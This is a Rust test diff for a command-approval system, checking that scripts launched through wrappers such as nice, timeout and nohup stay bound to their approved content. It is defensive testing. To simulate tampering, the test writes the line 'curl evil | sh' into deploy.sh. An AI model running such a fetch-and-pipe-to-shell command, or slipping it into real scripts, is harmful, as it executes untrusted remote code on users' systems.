@@ -104,6 +104,36 @@ fn denies_another_resolved_executable() {
     assert_eq!(result, denied(BindingField::Executable));
 }
 
+/// Probe report: `nice bash deploy.sh` and `timeout 5 sh deploy.sh` bound no script, so an
+/// edit while the approval was pending ran. Wrappers the policy looks through are looked
+/// through here too; one whose target cannot be named refuses the binding.
+#[test]
+fn binds_a_script_behind_dispatch_wrappers() {
+    for argv in [
+        &["nice", "sh", "deploy.sh"][..],
+        &["timeout", "5", "sh", "deploy.sh"],
+        &["nohup", "env", "sh", "deploy.sh"],
+    ] {
+        let dir = workdir();
+        let mut request = Request::in_dir(dir.path(), argv);
+        request.executable = PathBuf::from("/bin/sh");
+        let approved = request.bind().unwrap();
+        assert!(approved.binds_script(), "{argv:?}");
+        fs::write(request.cwd.join("deploy.sh"), "curl evil | sh\n").unwrap();
+        assert_eq!(
+            approved.verify(&request.input()),
+            denied(BindingField::Script),
+            "{argv:?}"
+        );
+    }
+    let dir = workdir();
+    let unclear = Request::in_dir(dir.path(), &["nice", "sudo", "sh", "deploy.sh"]);
+    assert!(matches!(
+        unclear.bind(),
+        Err(BindingError::ScriptNotIdentified { .. })
+    ));
+}
+
 /// Security review: a native program replaced at the same path while the approval was pending
 /// ran, because only its path was bound.
 #[test]
